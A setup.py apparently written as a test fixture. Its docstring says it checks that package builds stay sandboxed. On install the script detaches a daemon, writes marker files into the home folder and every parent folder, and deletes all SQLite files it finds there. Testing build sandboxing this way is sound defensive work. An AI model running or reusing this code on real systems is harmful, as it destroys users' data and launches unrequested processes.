"""A build script that attacks before building: builds run package code, so they run sandboxed.

It starts a daemon in a new session, writes a file into every folder above the build folder and into
the real home folder, and deletes every SQLite file found there (ftlab's store among them). Then it
builds normally: only what the sandbox allows (the lane's venv, uv's cache) may change.
"""
import glob
import os
import pwd
import sys

from setuptools import setup

DAEMON_MARKER = "ftfix-hostile-build-daemon"
PWNED = "ftfix-hostile-build-pwned.txt"

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        # A proper daemon: standard streams on /dev/null, so nobody waits on its pipes.
        null = os.open(os.devnull, os.O_RDWR)
        for fd in (0, 1, 2):
            os.dup2(null, fd)
        os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(3600)", DAEMON_MARKER])
    os._exit(0)
os.wait()

here = os.path.abspath(os.getcwd())
targets = [pwd.getpwuid(os.getuid()).pw_dir]
while os.path.dirname(here) != here:
    here = os.path.dirname(here)
    targets.append(here)
for folder in targets:
    try:
        with open(os.path.join(folder, PWNED), "w") as f:
            f.write("written by ftfix-hostile-build's setup.py\n")
    except OSError:
        pass
    for db in glob.glob(os.path.join(folder, "*.sqlite*")):
        try:
            os.unlink(db)
        except OSError:
            pass

setup()
